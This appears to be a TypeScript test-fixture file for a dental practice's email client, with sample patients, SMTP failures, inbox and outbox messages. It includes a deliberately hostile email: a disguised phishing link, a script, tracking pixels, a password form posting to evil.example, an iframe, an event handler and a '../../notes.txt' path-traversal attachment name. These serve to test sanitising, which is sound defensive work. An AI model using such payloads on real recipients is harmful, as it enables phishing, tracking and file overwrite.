import type { Failure, InboxMessage, OutboxEmail } from '@exact/host-contracts';

export const PATIENTS = [
  { id: 'p1', name: 'Alice Thornton', address: 'alice.thornton@patients.example' },
  { id: 'p2', name: 'Amara Oduya', address: 'family.oduya@patients.example' },
  { id: 'p3', name: 'Chidi Oduya', address: 'family.oduya@patients.example' },
  { id: 'p4', name: 'Zoë O’Brien-Nuñez', address: 'zoe.obrien@patients.example' },
  { id: 'p5', name: '山田 花子', address: 'hanako.yamada@patients.example' },
] as const;

export const sampleFailure: Failure = {
  code: '5.7.139',
  sentence: 'Microsoft does not let this mailbox send through EXACT yet.',
  fixedBy: 'admin',
  advice: 'Ask your IT support to switch on “Authenticated SMTP” for this mailbox, then press Run test again.',
  retry: { kind: 'never' },
  details: '535 5.7.139 Authentication unsuccessful, SmtpClientAuthentication is disabled for the Mailbox.',
};

/** What one recipient of a refused email has of its own. */
const refusedRecipient: Failure = {
  code: '550 5.1.10',
  sentence: 'This email address does not exist.',
  fixedBy: 'user',
  advice: 'Check the spelling with the recipient, correct the address and send the email again.',
  retry: { kind: 'never' },
};

/** 10:00 on a Monday in winter, UTC. */
export const MORNING = Date.UTC(2026, 10, 23, 10);

const PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** An email that tries all that a cleaned one must not do. */
const NASTY_HTML = `<style>p{color:#204060}</style><p style="font-weight:bold">Dear team,</p>
<p>my tooth hurts. <a href="https://evil.example/login">https://yourbank.example</a></p>
<script>document.title='broken'</script><img src="https://tracker.example/pixel.gif"><img src="cid:smile" alt="A smile" width="40" height="40">
<a title="<style href=https://evil.example">Terms</a>
<form action="https://evil.example"><input name="password"><button>Go</button></form>
<iframe src="https://evil.example"></iframe><p onclick="alert(1)" style="background:url(https://tracker.example/b.png)">Alice</p>`;

export const NASTY_RAW = [
  'From: Alice Thornton <alice.thornton@patients.example>',
  'To: reception@brightsmile.example',
  'Subject: Toothache',
  'MIME-Version: 1.0',
  'Content-Type: multipart/mixed; boundary="b"',
  '',
  '--b',
  'Content-Type: text/html; charset=utf-8',
  '',
  NASTY_HTML,
  '--b',
  'Content-Type: image/png; name="smile.png"',
  'Content-Transfer-Encoding: base64',
  'Content-ID: <smile>',
  'Content-Disposition: inline; filename="smile.png"',
  '',
  PIXEL,
  '--b',
  'Content-Type: text/plain; charset=utf-8',
  'Content-Transfer-Encoding: base64',
  'Content-Disposition: attachment; filename="../../notes.txt"',
  '',
  btoa('x-ray notes'),
  '--b--',
  '',
].join('\r\n');

/** Messages of a practice's morning, newest first; the first is the nasty one. */
export function sampleInbox(count: number): InboxMessage[] {
  return Array.from({ length: count }, (_, position): InboxMessage => {
    const patient = PATIENTS[position % PATIENTS.length] ?? PATIENTS[0];
    const { id, name } = patient;
    const isShared = patient.address.startsWith('family');
    const isNasty = position === 0;
    const subject = isNasty ? 'Toothache' : `Question ${(count - position).toString()} about my appointment`;
    return {
      id: count - position,
      arrivedAt: MORNING - position * 3_600_000,
      size: isNasty ? NASTY_RAW.length : 2048,
      folder: 'inbox',
      read: position > 3,
      ...(!isShared && { patient: { id, name } }),
      suggested: isShared
        ? PATIENTS.filter(({ address }) => address === patient.address).map((each) => ({
            id: each.id,
            name: each.name,
          }))
        : [],
      index: {
        messageId: `<${(count - position).toString()}@patients.example>`,
        references: [],
        subject,
        from: { address: patient.address, name },
        to: [{ address: 'reception@brightsmile.example' }],
        cc: [],
        date: MORNING - position * 3_600_000,
        text: `Dear team,\n\n${subject}.\n\nKind regards\n${name}`,
        ...(isNasty && { html: NASTY_HTML }),
        preview: `Dear team, ${subject}`,
        attachments: isNasty
          ? [
              { name: 'smile.png', contentType: 'image/png', size: 70, contentId: 'smile', position: 0 },
              { name: 'notes.txt', contentType: 'text/plain', size: 11, position: 1 },
            ]
          : [],
        problems: [],
      },
    };
  });
}

/** One email in each state that a person may do something about. */
export function sampleOutbox(): OutboxEmail[] {
  const states = ['queued', 'held', 'failed', 'uncertain', 'sent'] as const;
  return states.map((state, position): OutboxEmail => {
    const { address, name } = PATIENTS[position] ?? PATIENTS[0];
    return {
      id: 100 + position,
      account: 'microsoft365:t:reception@brightsmile.example',
      state,
      queuedAt: MORNING - position * 60_000,
      queuedBy: 'Front desk',
      ...(state === 'sent' && { sentAt: MORNING }),
      subject: `Your appointment (${state})`,
      recipients: [
        state === 'failed'
          ? { address, outcome: 'refused', failure: refusedRecipient }
          : { address, outcome: state === 'sent' ? 'accepted' : 'pending' },
      ],
      attachmentNames: [],
      ...(['held', 'failed', 'uncertain'].includes(state) && { failure: sampleFailure }),
      attempts: 1,
      email: {
        to: [{ address, name }],
        subject: `Your appointment (${state})`,
        text: 'See you on Monday.',
        attachments: [],
      },
    };
  });
}
